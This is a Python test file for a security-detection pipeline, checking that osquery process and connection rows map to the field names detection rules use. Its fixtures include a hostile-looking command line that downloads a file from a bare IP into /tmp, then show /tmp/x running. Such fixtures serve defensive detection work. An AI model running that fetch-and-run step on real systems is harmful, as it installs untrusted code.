"""osquery's result rows: new processes and connections under the names that rules use."""

from __future__ import annotations

from tests.factories.samples import documents, event, view
from tocsin.core.event import Fields, Json
from tocsin.pipeline.normalise.aliases import LogSource, bundled
from tocsin.pipeline.normalise.parsers.osquery import Osquery

PROCESS, CONNECTION, REMOVED, SNAPSHOT = documents("osquery")


def read(field: str, document: Fields) -> Json:
    one = event(Osquery(), document)
    return bundled().route(one.shape, one.kind).resolve(field).read(one.fields)


def sources(document: Fields) -> frozenset[LogSource]:
    one = event(Osquery(), document)
    return bundled().route(one.shape, one.kind).logsources


def test_a_new_process_is_a_process_creation() -> None:
    assert LogSource("linux", "process_creation") in sources(PROCESS)
    assert read("CommandLine", PROCESS) == "curl -o /tmp/x http://203.0.113.9/x"
    columns = view(event(Osquery(), PROCESS))["columns"]
    assert (columns["device.hostname"], columns["process.pid"], columns["actor.user.uid"]) == (
        "web1.example.org",
        4311,
        "33",
    )


def test_a_process_that_went_is_none() -> None:
    assert LogSource("linux", "process_creation") not in sources(PROCESS | {"action": "removed"})


def test_a_connection_has_its_ends() -> None:
    assert LogSource("osquery", "network_traffic") in sources(CONNECTION)
    columns = view(event(Osquery(), CONNECTION))["columns"]
    assert (columns["dst_endpoint.ip"], columns["dst_endpoint.port"], columns["connection_info.protocol_name"]) == (
        "203.0.113.9",
        80,
        "tcp",
    )


def test_any_column_is_found_by_its_name_and_in_full() -> None:
    assert read("command", REMOVED) == read("columns.command", REMOVED) == "/tmp/x"
    assert read("username", SNAPSHOT) == ["root", "deploy"]
